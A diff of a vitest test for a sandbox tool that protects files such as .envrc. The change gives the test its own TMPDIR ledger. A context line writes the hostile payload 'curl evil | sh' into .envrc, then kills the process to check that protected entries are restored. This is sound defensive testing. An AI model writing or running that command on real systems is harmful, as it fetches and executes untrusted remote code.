@@ -7,7 +7,7 @@
 import { spawnSync } from 'node:child_process'
 import fs from 'node:fs'
 import path from 'node:path'
-import { afterEach, describe, expect, it } from 'vitest'
+import { afterEach, describe, expect, it, onTestFinished } from 'vitest'
 import { sandboxBackend, skipWhen } from '../backends.js'
 import { setup, teardown, text, tmp } from './helpers.js'
 
@@ -46,6 +46,14 @@ describe.skipIf(skipWhen(!backend, 'bash changing protected entries', 'no sandbo
     const ws = workspace()
     const envrc = path.join(ws, '.envrc')
     const lib = path.resolve(import.meta.dirname, '../../core/sandbox/lib/index.js')
+    // Why a ledger of its own (TMPDIR, for this test and the processes it starts): another dsh process's first call would put back what the killed holder left before this test's call
+    const privateTmp = tmp('ledger')
+    const tmpdirBefore = process.env.TMPDIR
+    process.env.TMPDIR = privateTmp
+    onTestFinished(() => {
+      if (tmpdirBefore === undefined) delete process.env.TMPDIR
+      else process.env.TMPDIR = tmpdirBefore
+    })
     // a real dsh process takes .envrc (absent) for its call, the command writes one, and the process is killed
     const script = `import { leaseProtected } from ${JSON.stringify(lib)}; import { writeFileSync } from 'node:fs'; leaseProtected([${JSON.stringify(envrc)}], [${JSON.stringify(ws)}]); writeFileSync(${JSON.stringify(envrc)}, 'curl evil | sh'); process.kill(process.pid, 'SIGKILL')`
     expect(spawnSync(process.execPath, ['--input-type=module', '-e', script]).signal).toBe('SIGKILL')
